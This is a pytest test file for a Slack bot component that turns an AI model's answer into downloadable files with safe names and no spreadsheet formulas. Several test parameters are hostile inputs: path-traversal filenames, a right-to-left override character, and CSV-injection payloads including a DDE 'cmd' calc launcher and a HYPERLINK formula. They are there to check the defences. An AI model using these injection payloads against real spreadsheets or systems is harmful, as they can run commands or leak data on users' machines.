"""The files that an answer holds: the right code, under a right and harmless name."""

import csv

import pytest

from bot.conversation.asked_files import FileWish
from bot.slack.answer_files import MOST_FILES, files_in

ANSWER = """Here is **main.py**:

```python
# src/app.py
print(1)
```

the data:

```csv prices.csv
a,b
1,2
```

```
plain words that are the longest of these three pieces
```

| Name | **Price** |
|---|---|
| Tea | 1, or 2 |
"""


def names(answer: str, wish: FileWish) -> list[str]:
    return [file.name for file in files_in(answer, wish)]


@pytest.mark.parametrize(
    ("wish", "found"),
    [
        (FileWish(), ["app.py", "prices.csv", "answer.txt"]),
        (FileWish("csv"), ["prices.csv"]),
        (FileWish("csv", "mine.csv"), ["mine.csv"]),
        (FileWish("py"), ["app.py"]),
        (FileWish("tsv"), ["table.tsv"]),
    ],
)
def test_the_kind_that_was_asked_for_goes_first(wish: FileWish, found: list[str]) -> None:
    assert names(ANSWER, wish) == found


def test_the_code_is_given_as_it_is() -> None:
    code = 'x = "<!channel> $x^2$ **no** \u200b"\n\ty = `1`\n'
    (file,) = files_in(f"```python\n{code}```", FileWish())
    assert file.content.decode() == code


def test_what_reorders_text_does_not_get_into_a_file() -> None:
    (file,) = files_in("```python\nx = '\u202eevil'\n```", FileWish())
    assert b"\xe2\x80\xae" not in file.content


@pytest.mark.parametrize(
    ("given", "name"),
    [
        ("../../etc/x.conf", "x.conf"),
        ("a\\b\\c.py", "c.py"),
        (".bashrc", "answer.py"),
        ("no name", "answer.py"),
        ("größe.csv", "größe.csv"),
        ("x" * 300 + ".py", "answer.py"),
        ("Dockerfile", "answer.py"),
    ],
)
def test_a_name_that_the_model_gave_is_made_harmless(given: str, name: str) -> None:
    assert names(f"`{given}`:\n\n```python\n1\n```", FileWish()) == [name]


def test_a_name_that_was_asked_for_is_made_harmless_too() -> None:
    assert names("```csv\na\n```", FileWish("csv", "../x y/z.csv")) == ["z.csv"]


def test_two_files_never_have_one_name_and_there_are_not_too_many() -> None:
    found = names("```py\n1\n```\n" * 9, FileWish())
    assert found == ["answer.py", "answer-2.py", "answer-3.py", "answer-4.py", "answer-5.py"][:MOST_FILES]


def test_an_answer_without_code_is_given_as_it_is() -> None:
    (file,) = files_in("Just **words**.", FileWish())
    assert (file.name, file.content) == ("answer.md", b"Just **words**.\n")
    assert files_in("   ", FileWish()) == []


def test_a_table_becomes_values() -> None:
    (file,) = files_in("| Name | **Price** |\n|---|---|\n| Tea | 1, or 2 |\n", FileWish("csv"))
    assert file.content == b'Name,Price\nTea,"1, or 2"\n'


@pytest.mark.parametrize(
    "value",
    ["=1+1", '=HYPERLINK("https://e.com/"&A2)', "@SUM(A1)", "+cmd|' /C calc'!A0", "-WEBSERVICE(A1)", "\uff1d1+1"],
)
def test_no_value_of_a_table_is_a_formula(value: str) -> None:
    escaped = value.replace("|", "\\|")
    (file,) = files_in(f"| a | b |\n|---|---|\n| {escaped} | 2 |\n", FileWish("csv"))
    row = next(csv.reader([file.content.decode().splitlines()[1]]))
    assert row == [f"'{value}", "2"]


@pytest.mark.parametrize("value", ["-5", "+3 %", "-5 °C", "+49 30 1234", "-", "a=b", "1-2", "-1.5 (net)"])
def test_a_value_that_no_program_computes_stays(value: str) -> None:
    (file,) = files_in(f"| a | b |\n|---|---|\n| {value} | 2 |\n", FileWish("csv"))
    assert next(csv.reader([file.content.decode().splitlines()[1]])) == [value, "2"]
